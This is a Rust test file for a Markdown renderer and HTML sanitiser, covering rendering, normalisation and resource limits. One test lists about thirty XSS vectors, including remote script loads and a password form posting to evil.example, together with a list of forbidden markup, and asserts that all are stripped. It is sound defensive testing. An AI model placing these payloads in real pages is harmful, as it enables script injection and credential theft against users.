//! What the renderer keeps, what the sanitiser takes away, and how long both take.

use proptest::prelude::*;

use super::*;

fn html(body: &str) -> String {
    render(body).expect("renders").html
}

fn comment(body: &str) -> String {
    super::render_comment(body).expect("renders")
}

#[test]
fn ordinary_markdown_is_rendered() {
    let rendered =
        render("# A *title*\n\nSome `code` and a\nline.\n\n- one\n- two\n").expect("renders");
    assert_eq!(
        rendered.html,
        "<h1 id=\"user-content-a-title\">A <em>title</em></h1>\n<p>Some <code>code</code> and a\nline.</p>\n\
         <ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
    );
    assert_eq!(rendered.plain, "A title\nSome code and a line.\none\ntwo");
}

#[test]
fn tables_task_lists_and_languages_survive_the_sanitiser() {
    let table = html("| a | b |\n|:--|--:|\n| 1 | 2 |\n");
    assert!(table.contains("<th style=\"text-align:left\">a</th>"), "{table}");
    let tasks = html("- [x] done\n- [ ] open\n");
    assert!(tasks.contains("type=\"checkbox\""), "{tasks}");
    assert!(tasks.contains("checked=\"\""), "{tasks}");
    assert!(tasks.matches("disabled=\"\"").count() == 2, "{tasks}");
    let code = html("```rust\nfn main() {}\n```\n");
    assert!(code.contains("<code class=\"language-rust\">"), "{code}");
}

#[test]
fn footnotes_and_headings_link_inside_the_document() {
    let page = html("# Top\n\n[up](#top) and a note[^n].\n\n[^n]: The note.\n\n# Top\n");
    assert!(page.contains("<h1 id=\"user-content-top\">"), "{page}");
    assert!(page.contains("<h1 id=\"user-content-top-2\">"), "{page}");
    assert!(page.contains("href=\"#user-content-top\""), "{page}");
    assert!(
        page.contains("id=\"user-content-n\"") && page.contains("href=\"#user-content-n\""),
        "{page}"
    );
}

#[test]
fn nothing_that_runs_survives() {
    let vectors = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" OnError=\"alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](java\tscript:alert(1))",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>Log in</button></form>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<p style=\"position:fixed;top:0\">over</p>",
        "<td style=\"background:url(//evil.example)\">x</td>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<div id=\"document\" class=\"fixed\">x</div>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=https://x.example onclick=alert(1) target=_blank>x</a>",
        "`<script>`<script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<img src='https://x.example/a.png' srcset='javascript:alert(1)'>",
    ];
    for vector in vectors {
        for text in [html(vector), comment(vector)] {
            let page = ammonia_tags(&text);
            for forbidden in [
                "<script",
                "<style",
                "<svg",
                "<math",
                "<iframe",
                "<object",
                "<embed",
                "<form",
                "<button",
                "<base",
                "<meta",
                "<link",
                "onerror=",
                "onload=",
                "onclick=",
                "ontoggle=",
                "javascript:",
                "vbscript:",
                "data:",
                "position",
                "background",
                "class=\"fixed\"",
                "id=\"document\"",
                "name=",
                "srcset",
                "target=",
            ] {
                assert!(!page.contains(forbidden), "{vector:?} left {forbidden:?} in {text:?}");
            }
        }
    }
}

/// The markup of a page alone: what stands inside `<…>`, lower case.
fn ammonia_tags(html: &str) -> String {
    let mut markup = String::new();
    let mut inside = false;
    for character in html.chars() {
        match character {
            '<' => {
                inside = true;
                markup.push('<');
            }
            '>' => inside = false,
            _ if inside => markup.extend(character.to_lowercase()),
            _ => {}
        }
    }
    markup
}

#[test]
fn outside_links_do_not_leak_the_opener() {
    assert!(html("[x](https://x.example)").contains("rel=\"noopener noreferrer\""));
    assert!(comment("[x](https://x.example)").contains("rel=\"nofollow ugc noopener noreferrer\""));
}

#[test]
fn a_comment_shows_html_as_text() {
    assert_eq!(comment("<b>hi</b>\nthere"), "<p>&lt;b&gt;hi&lt;/b&gt;<br>\nthere</p>\n");
    assert!(!comment("# big\n\n![x](https://x.example/a.png)").contains("<img"));
    assert_eq!(count_links("see http://a.example, HTTPS://b.example"), 2);
}

#[test]
fn normalising_unifies_line_ends_and_trims_blank_lines() {
    assert_eq!(normalise("\r\n \n    code\r\nb\r\n\r\n"), Ok("    code\nb".to_owned()));
    assert_eq!(normalise("a\0b"), Err(BodyError::Nul));
    assert_eq!(
        normalise(&"x".repeat(BODY_BYTES_MAX + 1)),
        Err(BodyError::TooLarge(BODY_BYTES_MAX + 1))
    );
}

#[test]
fn the_first_heading_is_found_wherever_it_stands() {
    let lead = first_heading("# The `troupe` *guide*\n\ntext").expect("a heading");
    assert_eq!((lead.text.as_str(), lead.leads, lead.range), ("The troupe guide", true, 0..23));
    let later = first_heading("intro\n\nSetext\n======\n").expect("a heading");
    assert_eq!((later.text.as_str(), later.leads), ("Setext", false));
    assert_eq!(first_heading("no heading"), None);
    assert_eq!(first_heading("```\n# not one\n```"), None);
}

#[test]
fn hostile_nesting_is_refused_or_cheap() {
    assert_eq!(render(&">".repeat(10_000)), Err(BodyError::Nesting));
    assert_eq!(render_comment(&">".repeat(5_000)), Err(BodyError::Nesting));
    for unit in
        ["[", "<b>", "<div>", "*a_", "![", "`", "<a><b>", "<table>", "- ", "\\", "&#x41;", "[^1]"]
    {
        let body = unit.repeat(200_000 / unit.len());
        if let Ok(rendered) = render(&body) {
            assert!(!rendered.html.contains("<script"));
            let (from, to) = (body.len(), rendered.html.len());
            assert!(to < from * 40, "{unit:?}: {from} bytes became {to}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn normalising_twice_changes_nothing(body in "[a-z \r\n\t#>*-]{0,200}") {
        let once = normalise(&body).expect("small and without NUL");
        prop_assert_eq!(normalise(&once), Ok(once.clone()));
    }

    #[test]
    fn sanitised_html_stays_what_it_is(body in "[a-z <>/=\"'#\\[\\]()!*`&;:-]{0,200}") {
        if let Ok(rendered) = render(&body) {
            prop_assert_eq!(POST.clean(&rendered.html).to_string(), rendered.html);
        }
    }
}
